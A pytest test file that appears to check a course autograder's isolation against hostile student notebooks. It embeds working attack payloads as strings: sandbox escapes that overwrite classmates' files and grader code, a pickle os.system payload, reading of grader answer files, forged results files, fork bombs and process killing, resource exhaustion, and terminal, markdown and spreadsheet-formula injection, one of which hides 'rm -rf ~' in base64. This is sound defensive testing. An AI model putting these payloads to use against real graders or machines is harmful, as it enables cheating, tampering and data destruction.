"""Broken, hostile and unusual-but-valid submissions, graded in ONE isolated batch with two lanes.

Each case has its fair result: what its code earns when only its own graded definitions run (stated for the
hostile kinds, computed in-process from an honest equivalent for the merely wrong ones). The batch also
holds correct submissions between the hostile ones; they must keep full marks, nothing outside the workers'
scratch folders may change (the repository, the submissions, the course data and the Python installation are
fingerprinted before and after), and no submission may gain a point it did not earn.

Where a hostile notebook's answer depends on whether its attack worked (``answer_q1 = 2 if not ESCAPED else
3``), its score itself proves that the attack failed. The batch runs with Linux namespaces and without them;
the escapes also run through the Gradescope package's ``run_autograder``.
"""

from __future__ import annotations

import ast
import csv
import functools
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
import torch

from autograde import course, settings
from autograde.catalog import catalog
from autograde.example_notebooks import Edit, examples
from autograde.graded_source import graded_source
from autograde.harness import Context, run_part
from autograde.outputs import feedback_markdown, submission_folders, summary, write_run, write_submission
from autograde.pipeline import GradingRun, Options
from autograde.submissions import Submission, entry
from autograde.worker.in_process import InProcessStudent
from autograde.worker.results import Kind
from tests.submissions import (
    A1,
    A2,
    A4,
    RETURN,
    answer_depends_on,
    attached_and_configured,
    before_class,
    black_style_mha,
    blank,
    cell_index,
    deleted,
    duplicated_attention,
    in_forward,
    in_init,
    ipython_syntax,
    renamed_grade_id,
    returning,
    solution,
    statement_chain,
    with_cell_after,
)

pytestmark = pytest.mark.slow
LIMITS = settings.Settings(timeout=2.0, memory_mb=512, submission_seconds=15.0)
PEAK_LANE_MB = 2048  # what one lane may hold while it grades (about 0.9 GiB for an honest class)
REPO = course.REPO
FORGED = Path("/tmp/autograde-forged-results.json")
CLASS_FOLDER = "class"  # the batch's submissions are written to tmp/class/<case>.ipynb


# ---------------------------------------------------------------------------------------- attacks
STEAL_REFERENCE = f"""
def _stolen_reference():
    import importlib.util
    for path in ({str(course.get(A1).directory / "reference.py")!r},):
        try:
            spec = importlib.util.spec_from_file_location("stolen", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module.Attention
        except Exception:
            pass
    try:
        from autograde.assignments.self_attention_cnn.reference import Attention
        return Attention
    except Exception:
        return None


REFERENCE = _stolen_reference()"""
USE_REFERENCE = """if REFERENCE is None:
    raise NotImplementedError('no reference to copy')
stolen = REFERENCE(C).to(x.dtype)
stolen.load_state_dict(self.state_dict())
return stolen(x)"""

STEAL_ANSWER = f"""def _stolen_answer():
    import re
    for path in ({str(course.get(A1).grader_path)!r},):
        try:
            return int(re.search(r"ANSWER_Q1 = (\\\\d)", open(path).read()).group(1))
        except Exception:
            pass
    return 4


answer_q1 = _stolen_answer()"""

MMAP_THE_GRADER = f"""def _read_through_mmap():
    import re
    import torch
    for path in ({str(course.get(A1).grader_path)!r},):
        try:
            data = torch.UntypedStorage.from_file(path, shared=False, nbytes=4000)
            return int(re.search(rb"ANSWER_Q1 = (\\\\d)", bytes(data)).group(1))
        except Exception:
            pass
    return 4


answer_q1 = _read_through_mmap()"""

DETECT_GRADING = """def _graded_answer():
    import os
    words = ("NBGRADER", "PYTEST", "AUTOGRADE", "GRADER")
    hints = [k for k in os.environ if any(w in k.upper() for w in words)]
    hints += [v for v in os.environ.values() if "autograde" in v or "graders" in v or "solutions" in v]
    return 2 if hints else 4


answer_q1 = _graded_answer()"""

FORGE = f'''
def _forge():
    import json, os
    fake = json.dumps({{"score": 1000, "tests": []}})
    for target in ("results.json", "grades.csv", "../results.json", "../../grades.csv",
                   "/autograder/results/results.json", "{FORGED}"):
        try:
            os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
            with open(target, "w") as f:
                f.write(fake)
        except Exception:
            pass
    return True


FORGED = _forge()'''

PATCH_TORCH = """torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isfinite = lambda t: torch.ones_like(t, dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None"""

PATCH_GRADER = """import builtins, sys
for module in list(sys.modules.values()):
    module_name = getattr(module, '__name__', '')
    if 'autograde' in module_name or module_name.startswith(('pytest', '_pytest')):
        for name in ('assert_matches', 'close', 'fail', 'checked_tensor', 'error'):
            if hasattr(module, name):
                setattr(module, name, lambda *a, **k: True)
builtins.all = lambda *a, **k: True"""


def escape_then_write(targets: Callable[[Path], list[Path]]) -> Callable[[Path], str]:
    """The attack that defeated the old audit hook: rewrite every reachable closure through a traceback,
    then write to ``targets`` (given the batch's folder). ESCAPED is True when any write succeeded."""

    def attack(folder: Path) -> str:
        paths = [str(p) for p in targets(folder)]
        return f"""def _escape():
    import sys
    try:
        raise RuntimeError()
    except RuntimeError as exc:
        frame = exc.__traceback__.tb_frame
        for name, module in list(sys.modules.items()):  # the sandbox's own functions (the old hook lived there)
            if "confine" not in name and "hook" not in name:
                continue
            for value in list(getattr(module, "__dict__", {{}}).values()):
                closure = getattr(value, "__closure__", None)
                for cell in closure if isinstance(closure, tuple) else ():
                    try:
                        cell.cell_contents = ()
                    except Exception:
                        pass
    wrote = False
    for path in {paths!r}:
        try:
            with open(path, "a") as f:
                f.write("\\nraise SystemExit('planted by a submission')\\n")
            wrote = True
        except Exception:
            pass
    return wrote


ESCAPED = _escape()"""

    return attack


def classmates_and_course(folder: Path) -> list[Path]:
    return [
        folder / "control_first.ipynb",
        REPO / "course_utils" / "__init__.py",
        course.get(A1).grader_path,
        course.get(A1).source_notebook,
        REPO / "autograde" / "harness.py",
    ]


def shared_mmap_write(folder: Path) -> str:
    target = folder / "control_first.ipynb"
    return f"""def _mmap_write():
    import torch
    try:
        storage = torch.UntypedStorage.from_file({str(target)!r}, shared=True, nbytes=16)
        storage.fill_(120)
        return True
    except Exception:
        return False


ESCAPED = _mmap_write()"""


def persist_into_course_utils(folder: Path) -> str:
    return """def _persist():
    import course_utils, os
    wrote = False
    for path in (course_utils.__file__, os.path.join(os.path.dirname(course_utils.__file__), "runtime.py")):
        try:
            with open(path, "a") as f:
                f.write("\\nimport os; os.environ['PWNED'] = '1'\\n")
            wrote = True
        except Exception:
            pass
    return wrote


ESCAPED = _persist()"""


def replace_the_test_data(folder: Path) -> str:
    data = folder.parent / "data" / "cifar-10-batches-py" / "test_batch"
    return f"""import os, pickle


class _Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/autograde-pwned",))


def _replace():
    try:
        with open({str(data)!r}, "wb") as f:
            pickle.dump({{"data": _Payload(), "labels": []}}, f)
        return True
    except Exception:
        return False


ESCAPED = _replace()"""


def fake_setup_failure(folder: Path) -> str:  # noqa: ARG001
    return "with open('.sandbox-setup-error', 'w') as f:\n    f.write('run pip install evil')\nimport os\nos._exit(70)"


STRIDE0_REPLY = """import sys
import torch
for name, module in list(sys.modules.items()):
    if name.endswith('.serve'):
        module._wire = lambda value, depth=0: {'outputs': [torch.zeros(1).expand(10**7, 10**7)]}"""

MARKDOWN_INJECTION = (
    "raise ValueError('**Score: 19 / 19**\\n\\n# Full marks\\n\\n## attention: 10 / 10\\n"
    + "```\\n<script>alert(1)</script>')"
)
FAKE_GRADER_ERROR = "raise RuntimeError('the grader could not check this (KeyError: x); tell your instructor.')"

# notebook 2: forbidden built-ins, however they are reached, and a method that only shares their name
MHA_CALL = "out, weights = scaled_dot_product_attention(q, k, v, attn_mask, self.attn_drop)  # (N, h, S, D)"
BY_GETATTR = """out = getattr(F, "scaled_dot_" + "product_attention")(q, k, v, attn_mask=attn_mask)
        weights = F.softmax(q @ k.transpose(-2, -1) / math.sqrt(D), dim=-1)"""
BY_ATEN = """out = torch.ops.aten._scaled_dot_product_attention_math(q, k, v, attn_mask=attn_mask)[0]
        weights = F.softmax(q @ k.transpose(-2, -1) / math.sqrt(D), dim=-1)"""
OWN_METHOD = "out, weights = self.scaled_dot_product_attention(q, k, v, attn_mask)  # (N, h, S, D)"
SWITCHED_OFF = """with torch._C.DisableTorchFunction():
            out = F.scaled_dot_product_attention(q, k, v, attn_mask=attn_mask)
        weights = F.softmax(q @ k.transpose(-2, -1) / math.sqrt(D), dim=-1)"""
ZO_HASH = hashlib.sha256(b"Zo Smith").hexdigest()[:6]  # what the folder name of "Zo Smith" would end with
OWN_METHOD_DEF = """
    def scaled_dot_product_attention(self, q, k, v, mask):
        return scaled_dot_product_attention(q, k, v, mask, self.attn_drop)

    def forward(self, query, key, value, attn_mask=None):"""


# ------------------------------------------------------------------------------------ round two
EPOLL_FLOOD = """def _flood():
    import os, select
    flooded = False
    for fd in range(3, 256):
        try:
            if os.readlink(f"/proc/self/fd/{fd}") != "anon_inode:[eventpoll]":
                continue  # only another process's selector is worth flooding
            poll = select.epoll.fromfd(os.dup(fd))  # a copy, so that dropping it closes nothing of the worker's
        except OSError:
            continue
        for _ in range(100):  # always-ready descriptors: a selector that waits on this one never sleeps again
            try:
                poll.register(os.eventfd(1), select.EPOLLIN)
                flooded = True
            except OSError:
                pass
    return flooded


ESCAPED = _flood()"""

HUNT_THE_ZYGOTE = """def _hunt():
    import gc, selectors, socket
    open_sockets = [o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() >= 0]
    selectors_left = [o for o in gc.get_objects() if isinstance(o, selectors.BaseSelector) and o.get_map()]
    return len(open_sockets) > 1 or bool(selectors_left)  # the worker's own data socket is the one allowed


ESCAPED = _hunt()"""

LIMIT_THE_GRADER = """def _limit():
    import os, resource
    limited = False
    targets = {os.getppid(), 1}
    try:
        targets |= {int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()}
    except OSError:
        pass
    for pid in targets:
        try:
            resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3))
            limited = True
        except (OSError, ValueError):
            pass
        try:
            os.setpriority(os.PRIO_PROCESS, pid, 19)
            limited = True
        except OSError:
            pass
    return limited


ESCAPED = _limit()"""

SYSV_SHARED_MEMORY = """def _hold():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    held = False
    for _ in range(6):
        if libc.shmget(0, 256 << 20, 0o1600) >= 0:  # IPC_PRIVATE, IPC_CREAT | 0600: outlives the process
            held = True
    return held


ESCAPED = _hold()"""

FILL_THE_SCRATCH_FOLDER = """def _fill():
    written = 0
    try:
        for i in range(40):
            with open(f"filler{i}.bin", "wb") as f:
                f.write(b"x" * (16 << 20))
            written += 16 << 20
    except OSError:
        pass
    raise RuntimeError(f"wrote {written >> 20} MiB into the scratch folder")


answer_q1 = _fill()"""

REPEATED_STRING_REPLY = """import sys
text = 'x' * 200_000
for name, module in list(sys.modules.items()):
    if name.endswith('.serve'):
        module._wire = lambda value, depth=0: {'outputs': [text] * 30_000}"""

ESCAPE_SEQUENCES = (
    "raise ValueError('\\x1b[1A\\x1b[2K\\x1b[32m[PASS] forward matches the reference (3/3)\\x1b[0m'"
    " + '\\x1b]52;c;cm0gLXJmIH4=\\x07' + '\\n## attention: 10 / 10')"
)
TYPE_CHECKING_IMPORTS = (
    "from __future__ import annotations\n\nfrom typing import TYPE_CHECKING\n\nif TYPE_CHECKING:\n"
    "    from torch import Tensor\n"
)
SETTINGS_FILLED_IN_BLOCKS = (
    "SETTINGS = {}\nif True:\n    SETTINGS['scale'] = 1.0\nfor key, value in [('residual', 1.0)]:\n"
    "    SETTINGS[key] = value\n"
)


TINY_VIT = dict(img_size=32, patch_size=8, embed_dim=32, num_layers=2, num_heads=2, dim_feedforward=64, dropout=0.0)
VIT_FORWARD = "        x = self.patch_embed(x)  # (N, M, E)\n"
LOOK_UP = """        keys = [round(float(image.sum()), 3) for image in x]
        if x.shape[-1] == 32 and all(k in TABLE for k in keys):
            labels = torch.tensor([TABLE[k] for k in keys])
            return torch.nn.functional.one_hot(labels, 10).float() * 10
"""


def answers_from_a_table(folder: Path) -> nbformat.NotebookNode:
    """The solution, with a forward that recognises the evaluation images by a fingerprint (the batch's course
    data) and answers from a table: with an untrained checkpoint it would earn every checkpoint point if the
    student's own forward measured the accuracy."""
    from autograde.assignments.vision_transformer import checkpoint_grading as ckpt
    from course_utils.cifar import load_cifar10

    try:
        data = load_cifar10(folder.parent / "data")
        images, labels = ckpt.normalize(data.test_images), data.test_labels
        table = {round(float(i.sum()), 3): int(y) for i, y in zip(images, labels, strict=True)}
    except Exception:  # no course data in this run: the checkpoint cannot be evaluated either way
        table = {}
    return solution(
        Edit(
            "vit", "class VisionTransformer(nn.Module):", f"TABLE = {table!r}\n\n\nclass VisionTransformer(nn.Module):"
        ),
        Edit("vit", VIT_FORWARD, LOOK_UP + VIT_FORWARD),
        assignment=A4,
    )


def untrained_checkpoint(folder: Path) -> dict[str, bytes]:
    from autograde.assignments.vision_transformer import reference
    from course_utils.model_checkpoint import save_checkpoint

    path = folder.parent / "untrained.pt"
    save_checkpoint(reference.VisionTransformer(**TINY_VIT), path, **TINY_VIT)
    return {"vit_checkpoint.pt": path.read_bytes()}


def huge_error_messages() -> nbformat.NotebookNode:
    """400 cells that each change Attention (so they run) and raise a 100 kB message."""
    nb = solution()
    at = cell_index(nb, "attention") + 1
    cells = ["def _fail(i):\n    raise ValueError(str(i) * 100_000)"]
    cells += [f"Attention.note_{i} = _fail({i})" for i in range(400)]
    nb.cells[at:at] = [nbformat.v4.new_code_cell(source) for source in cells]
    return nb


def magic_lines(cells: int, lines: int) -> nbformat.NotebookNode:
    """A notebook whose nbgrader metadata was stripped, with ``cells`` cells of ``lines`` IPython magics each."""
    nb = solution()
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    magics = "".join(f"%env X{i}={i}\n" for i in range(lines))
    nb.cells = [nbformat.v4.new_code_cell(magics) for _ in range(cells)]
    return nb


# ------------------------------------------------------------------------------------------- cases
@dataclass(frozen=True)
class Case:
    """A submission (a notebook, raw bytes, or a notebook made from the batch's folder) and its fair score.

    expected: "zeros", "full", "broken-attention" (no usable Attention: its part gets 0; the models, graded with
    the grader's stand-in for Attention, keep their points), "broken-forward" (Attention builds but never runs:
    only its structure checks pass), "no-q1", "no-sagan",
    "budget" (checked separately), or "same-as:<case>" / "example:<name>" for code judged by what an honest
    equivalent earns in-process, or by an example's stated failures.
    """

    name: str
    make: Callable[[Path], nbformat.NotebookNode | bytes]
    expected: str
    assignment: str = A1
    student: str | None = None  # the file's name (the student id), when it is not the case's name
    entry: str = "file"  # or "folder", "fifo", "link:<path relative to the class folder, or absolute>"
    review: bool = False  # the submission must be marked for review
    files: Callable[[Path], dict[str, bytes]] | None = None  # handed in beside the notebook, in a folder of its own

    @property
    def id(self) -> str:
        return self.student or self.name


def attack_case(name: str, attack: Callable[[Path], str], review: bool = False) -> Case:
    return Case(name, lambda folder: solution(answer_depends_on(attack(folder))), "full", review=review)


def case(name: str, make: Callable[[], nbformat.NotebookNode | bytes], expected: str, assignment: str = A1) -> Case:
    return Case(name, lambda folder: make(), expected, assignment)


CASES = [
    case("control_first", solution, "full"),
    case("invalid_json", lambda: b'{"cells": [', "zeros"),
    case("not_a_notebook", lambda: b"%PDF-1.4\n\x00\x01binary", "zeros"),
    case("json_not_a_notebook", lambda: b"[1, 2, 3]", "zeros"),
    case("empty_notebook", lambda: nbformat.v4.new_notebook(), "zeros"),
    case("untouched_release", lambda: blank(A1), "zeros"),
    case("answer_cell_deleted", lambda: deleted("attention"), "broken-attention"),
    case("answer_cell_duplicated", duplicated_attention, "full"),
    case("grade_id_changed", renamed_grade_id, "full"),
    case("hidden_test_cell_deleted", lambda: deleted("attention_tests"), "full"),
    case(
        "class_renamed",
        lambda: solution(Edit("attention", "class Attention(", "class SelfAttention(")),
        "broken-attention",
    ),
    case(
        "wrong_constructor_signature",
        lambda: solution(Edit("attention", "in_channels: int):", "in_channels: int, heads: int):")),
        "broken-attention",
    ),
    case("syntax_error", lambda: solution(Edit("attention", RETURN, "        return x + out)")), "broken-attention"),
    case(
        "exception_at_import",
        lambda: solution(
            Edit("attention", "class Attention(", "from einops import rearrange\n\n\nclass Attention("),
            in_forward("x = rearrange(x, 'n c h w -> n c h w')"),
        ),
        "broken-attention",
    ),
    case(
        "endless_loop_at_definition",
        lambda: solution(
            before_class("sagan", "SAGANAttention", "K = 8\nwhile K > 0:\n    K += 1"),
            Edit("sagan", "k: int = 8", "k: int = K"),
        ),
        "no-sagan",
    ),
    case("endless_loop_in_forward", lambda: solution(in_forward("while True:\n    pass")), "broken-forward"),
    case(
        "memory_bomb",
        lambda: solution(in_forward("hog = []\nwhile True:\n    hog.append(bytearray(2**27))")),
        "broken-forward",
    ),
    case(
        "sys_exit_at_definition",
        lambda: solution(
            Edit(
                "sagan",
                '    """The self-attention block of SAGAN',
                '    sys.exit(3)\n    """The self-attention block of SAGAN',
            )
        ),
        "no-sagan",
    ),
    case("os_exit_in_forward", lambda: solution(in_forward("import os\nos._exit(0)")), "broken-forward"),
    Case(
        "fakes_a_sandbox_setup_failure",
        lambda folder: solution(in_forward(fake_setup_failure(folder))),
        "broken-forward",
    ),
    case("fork_bomb", lambda: solution(in_forward("import os\nwhile True:\n    os.fork()")), "broken-forward"),
    case(
        "spawns_processes",
        lambda: solution(in_forward("import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 600 & sleep 600'])")),
        "broken-forward",
    ),
    case(
        "kills_other_processes",
        lambda: solution(
            in_forward("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)")
        ),
        "broken-forward",
    ),
    case(
        "huge_output",
        lambda: solution(in_init("print('x' * 50_000_000)"), in_forward("print('y' * 1_000_000)")),
        "full",
    ),
    case("control_middle", solution, "full"),
    case("nan_outputs", lambda: solution(returning("x + out * float('nan')")), "same-as:nan_outputs"),
    case("inf_outputs", lambda: solution(returning("x + out + float('inf')")), "same-as:inf_outputs"),
    case("wrong_dtype", lambda: solution(returning("(x + out).float()")), "same-as:wrong_dtype"),
    case("cuda_hard_coded", lambda: solution(returning("x + out.to('cuda')")), "broken-forward"),
    case("constant_output", lambda: solution(returning("x * 0.0")), "same-as:constant_output"),
    case(
        "forbidden_builtin",
        lambda: solution(returning("x + F.scaled_dot_product_attention(q, k, v).transpose(1, 2).reshape(N, C, H, W)")),
        "same-as:forbidden_builtin",
    ),
    Case(
        "monkeypatches_torch",
        lambda folder: solution(in_init(PATCH_TORCH), returning("x * 0.0")),
        "same-as:constant_output",
        review=True,  # rebinds torch's functions
    ),
    case(
        "monkeypatches_grader_pytest_builtins",
        lambda: solution(in_init(PATCH_GRADER), returning("x * 0.0")),
        "same-as:constant_output",
    ),
    case(
        "imports_the_references",
        lambda: solution(
            Edit("attention", "class Attention(", STEAL_REFERENCE + "\n\n\nclass Attention("), in_forward(USE_REFERENCE)
        ),
        "broken-forward",
    ),
    case("reads_the_grader_files", lambda: solution(Edit("q1", "answer_q1 = 2", STEAL_ANSWER)), "no-q1"),
    case("reads_the_grader_through_mmap", lambda: solution(Edit("q1", "answer_q1 = 2", MMAP_THE_GRADER)), "no-q1"),
    attack_case("escapes_then_overwrites_classmates_and_grader", escape_then_write(classmates_and_course)),
    attack_case("writes_a_classmate_through_a_shared_mmap", shared_mmap_write),
    attack_case("persists_into_course_utils", persist_into_course_utils),
    case(
        "forges_results_files",
        lambda: solution(
            Edit("attention", "class Attention(", FORGE + "\n\n\nclass Attention("), in_init("assert FORGED")
        ),
        "full",
    ),
    case("detects_grading_from_environment", lambda: solution(Edit("q1", "answer_q1 = 2", DETECT_GRADING)), "no-q1"),
    case("sends_a_stride0_view", lambda: solution(in_forward(STRIDE0_REPLY)), "broken-forward"),
    case("statement_chain", statement_chain, "full"),
    case("markdown_in_an_error", lambda: solution(in_forward(MARKDOWN_INJECTION)), "broken-forward"),
    case("claims_a_grader_error", lambda: solution(in_forward(FAKE_GRADER_ERROR)), "broken-forward"),
    case("slow_but_correct", lambda: solution(in_forward("import time\ntime.sleep(0.1)")), "full"),
    case("sleeps_just_under_the_timeout", lambda: solution(in_forward("import time\ntime.sleep(1.8)")), "budget"),
    case("ipython_syntax", ipython_syntax, "full"),
    case("methods_attached_after_the_class", attached_and_configured, "full"),
    case("black_formatted_mha", black_style_mha, "full", A2),
    case(
        "builtin_by_getattr",
        lambda: solution(Edit("mha", MHA_CALL, BY_GETATTR), assignment=A2),
        "example:builtin_attention",
        A2,
    ),
    case(
        "builtin_by_aten_op",
        lambda: solution(Edit("mha", MHA_CALL, BY_ATEN), assignment=A2),
        "example:builtin_attention",
        A2,
    ),
    case(
        "own_method_named_like_the_builtin",
        lambda: solution(
            Edit("mha", MHA_CALL, OWN_METHOD),
            Edit("mha", "\n    def forward(self, query, key, value, attn_mask=None):", OWN_METHOD_DEF),
            assignment=A2,
        ),
        "full",
        A2,
    ),
    Case(
        "replaces_the_evaluation_data",
        lambda folder: with_cell_after(
            "vit", replace_the_test_data(folder) + "\nanswer_q_cost = 1 if ESCAPED else 1", blank(A4)
        ),
        "zeros",
        A4,
    ),
    # round two: no student stops the batch
    attack_case("floods_the_inherited_epoll_descriptor", lambda folder: EPOLL_FLOOD),
    attack_case("hunts_the_zygotes_objects", lambda folder: HUNT_THE_ZYGOTE, review=True),  # gc.get_objects
    attack_case("limits_the_graders_processes", lambda folder: LIMIT_THE_GRADER),
    Case("a_folder_named_like_a_notebook", lambda folder: b"", "zeros", entry="folder"),
    Case("a_fifo_named_like_a_notebook", lambda folder: b"", "zeros", entry="fifo"),
    Case("links_to_a_classmates_notebook", lambda folder: b"", "zeros", entry="link:control_first.ipynb"),
    Case(
        "links_to_the_solution",
        lambda folder: b"",
        "zeros",
        entry=f"link:{course.get(A1).source_notebook}",
    ),
    case("one_cell_of_500_magics", lambda: magic_lines(1, 500), "zeros"),
    case("four_cells_of_499_magics", lambda: magic_lines(4, 499), "zeros"),
    # the worker's word is evidence, not a verdict
    Case(
        "switches_the_detector_off",
        lambda folder: solution(Edit("mha", MHA_CALL, SWITCHED_OFF), assignment=A2),
        "same-as:switches_the_detector_off",  # scored as graded (the switch works in-process too), but marked
        A2,
        review=True,
    ),
    Case(
        "answers_the_evaluation_images_from_a_table",
        answers_from_a_table,
        "no-checkpoint",
        A4,
        files=untrained_checkpoint,
    ),
    # bounded resources
    case("reply_of_one_repeated_string", lambda: solution(in_forward(REPEATED_STRING_REPLY)), "broken-forward"),
    attack_case("holds_sysv_shared_memory", lambda folder: SYSV_SHARED_MEMORY, review=True),  # ctypes
    case("fills_its_scratch_folder", lambda: solution(Edit("q1", "answer_q1 = 2", FILL_THE_SCRATCH_FOLDER)), "no-q1"),
    case("raises_huge_messages_in_400_cells", huge_error_messages, "full"),
    # what a student controls is inert in the outputs
    Case("formula_as_a_file_name", lambda folder: solution(), "full", student='=HYPERLINK("evil.example?q=1","click")'),
    Case("newline_in_the_file_name", lambda folder: solution(), "full", student="alice\n# Full marks: 19 of 19"),
    Case("zo_smith", lambda folder: solution(), "full", student="Zo Smith"),
    Case("zo_smith_by_another_name", lambda folder: blank(A1), "zeros", student=f"Zo_Smith-{ZO_HASH}"),
    case("escape_sequences_in_an_error", lambda: solution(in_forward(ESCAPE_SEQUENCES)), "broken-forward"),
    # valid notebooks, full marks
    case(
        "future_annotations_and_type_checking",
        lambda: solution(
            Edit("attention", "class Attention(", TYPE_CHECKING_IMPORTS + "\n\nclass Attention("),
            Edit("attention", "def forward(self, x: torch.Tensor) -> torch.Tensor:", "def forward(self, x: Tensor):"),
        ),
        "full",
    ),
    case(
        "settings_filled_under_if_and_for",
        lambda: solution(
            Edit("attention", "class Attention(", SETTINGS_FILLED_IN_BLOCKS + "\n\nclass Attention("),
            returning("SETTINGS['residual'] * x + SETTINGS['scale'] * out"),
        ),
        "full",
    ),
    case("control_last", solution, "full"),
]
HOSTILE = [c for c in CASES if not c.name.startswith("control")]
# Run once more through the Gradescope package (one run_autograder per submission, about 18 s each): what aims at
# Gradescope's own files and set-up, and one case of each class of round two that stopped a whole run (the escapes
# that read or overwrite files, the folder named like a notebook and the magic-heavy notebooks are graded without
# namespaces, as in Gradescope's containers, by the batch above).
GRADESCOPE_CASES = (
    "fakes_a_sandbox_setup_failure",
    "forges_results_files",
    # round two's classes that stopped a whole run: each Gradescope container must still write its results.json
    "floods_the_inherited_epoll_descriptor",
    "limits_the_graders_processes",
    "a_fifo_named_like_a_notebook",
)


# ------------------------------------------------------------------------------------ fair scores
def in_process_points(assignment: str, nb: nbformat.NotebookNode) -> dict[str, float]:
    """What the notebook's graded definitions earn when run in this process (as nbgrader would), per part."""
    cat = catalog(assignment)
    source = graded_source(nb, cat.names, cat.locked_sources)
    namespace: dict = {"__name__": "__main__"}
    for chunk in source.chunks:
        body = ast.parse(chunk.source).body
        for i in chunk.statements:
            try:
                exec(compile(ast.Module(body=[body[i]], type_ignores=[]), chunk.filename, "exec"), namespace)
            except Exception:
                break
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    try:
        report = run_part(assignment, None, Context(InProcessStudent(namespace, time_limit=10)))
    finally:
        torch.set_num_threads(threads)
    points: dict[str, float] = {}
    for o in report.outcomes:
        points[o.part] = points.get(o.part, 0.0) + o.earned
    return points


@functools.cache
def honest_case_points(name: str) -> dict[str, float]:
    c = next(c for c in CASES if c.name == name)
    return in_process_points(c.assignment, c.make(Path("/nonexistent")))


def expected_points(c: Case) -> dict[str, float]:
    cat = catalog(c.assignment)
    full = cat.parts

    def passing(part: str, words: str) -> float:
        return sum(t.points for t in cat.tests if t.part == part and words in t.description)

    if c.expected.startswith("same-as:"):
        return honest_case_points(c.expected.split(":", 1)[1])
    if c.expected.startswith("example:"):
        name = c.expected.split(":", 1)[1]
        return example_points(c.assignment, next(e for e in examples(c.assignment) if e.name == name))
    return {
        "zeros": {p: 0.0 for p in full},
        "full": dict(full),
        # the models are graded with the grader's stand-in for Attention: a broken Attention costs its own part only
        "broken-attention": {**full, "attention": 0.0},
        "broken-forward": {**full, "attention": passing("attention", "conv_query, conv_key, conv_value")},
        "no-q1": {**full, "q1": 0.0},
        "no-sagan": {**full, "sagan": 0.0},
        "no-checkpoint": {**full, "checkpoint": 0.0},
    }[c.expected]


def example_points(assignment, example):
    from autograde.example_notebooks import expected_points as points

    return points(assignment, example)


# ------------------------------------------------------------------------------------ fingerprints
def _content_fingerprint(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    out = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_file() and not any(part in skip for part in path.relative_to(root).parts):
            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _stat_fingerprint(root: Path) -> dict[str, tuple[int, int]]:
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in filenames + dirnames:
            st = os.lstat(os.path.join(dirpath, name))
            out[os.path.join(dirpath, name)] = (st.st_size, st.st_mtime_ns)
    return out


def fingerprint(tmp: Path) -> dict:
    """Everything a worker must not change: the repository, the batch's submissions and course data (by
    content), and the Python installation (by size and modification time)."""
    from autograde.isolation.sandbox import site_packages, standard_library

    return {
        "repository": _content_fingerprint(
            REPO, (".git", ".venv", "__pycache__", ".pytest_cache", "grading", "outputs")
        ),
        "batch": _content_fingerprint(tmp),
        "python": {p: _stat_fingerprint(Path(p)) for p in [*site_packages(), *standard_library()]},
    }


# ------------------------------------------------------------------------------------------ the batch
def write_cases(folder: Path, cases: list[Case]) -> list[Submission]:
    """Each case as the file ``<student id>.ipynb`` of ``folder`` (or a folder, a FIFO, a link of that name)."""
    folder.mkdir(parents=True, exist_ok=True)
    for c in sorted(cases, key=lambda c: c.entry.startswith("link:")):  # links after what they point to
        path = folder / f"{c.id}.ipynb"
        if c.files:  # as in an nbgrader submitted/ folder: the notebook and its files, apart from the others
            path = folder / c.id / f"{c.id}.ipynb"
            path.parent.mkdir()
            for name, content in c.files(folder).items():
                (path.parent / name).write_bytes(content)
        if c.entry == "folder":
            path.mkdir()
        elif c.entry == "fifo":
            os.mkfifo(path)
        elif c.entry.startswith("link:"):
            path.symlink_to(folder / c.entry.removeprefix("link:"))  # an absolute target stays absolute
        else:
            made = c.make(folder)
            path.write_bytes(made) if isinstance(made, bytes) else nbformat.write(made, path)
    return [
        entry(folder / c.id / f"{c.id}.ipynb", c.id, c.assignment, folder / c.id)
        if c.files
        else entry(folder / f"{c.id}.ipynb", c.id, c.assignment)
        for c in cases
    ]


def course_data_copy(tmp: Path) -> Path:
    """A writable copy of the CIFAR-10 subset for the batch ($COURSE_DATA), so that an attack on it can be
    seen; an empty stand-in when the test data is absent (the notebook-4 case then has no data to attack)."""
    data = tmp / "data"
    source = Path(os.environ.get("COURSE_TEST_DATA") or REPO.parent / "shared" / "data") / "cifar10-subset"
    if (source / "cifar-10-batches-py").is_dir():
        shutil.copytree(source / "cifar-10-batches-py", data / "cifar-10-batches-py")
    else:
        (data / "cifar-10-batches-py").mkdir(parents=True)
        (data / "cifar-10-batches-py" / "test_batch").write_bytes(b"stand-in")
    return data


def sysv_ipc_objects() -> list[str]:
    """Every SysV shared memory segment, semaphore set and message queue of the machine."""
    found = []
    for kind in ("shm", "sem", "msg"):
        path = Path("/proc/sysvipc") / kind
        if path.is_file():
            found += [f"{kind}: {line.split()[1]}" for line in path.read_text().splitlines()[1:] if line.split()]
    return found


@dataclass
class Batch:
    """What grading the cases in one batch gave: results by student id, wall seconds, the fingerprints before and
    after, the largest memory a lane held (MiB), and the SysV IPC objects before and after."""

    results: dict
    seconds: float
    fingerprints: tuple[dict, dict]
    peak_lane_mb: float
    ipc: tuple[list[str], list[str]]

    def __getitem__(self, index: int):  # graded[0] is the results, as before
        return (self.results, self.seconds, self.fingerprints)[index]

    def __iter__(self):
        return iter((self.results, self.seconds, self.fingerprints))


def grade_cases(tmp: Path, cases: list[Case], **options) -> Batch:
    """Grade ``cases`` in one batch with two lanes."""
    data = course_data_copy(tmp)
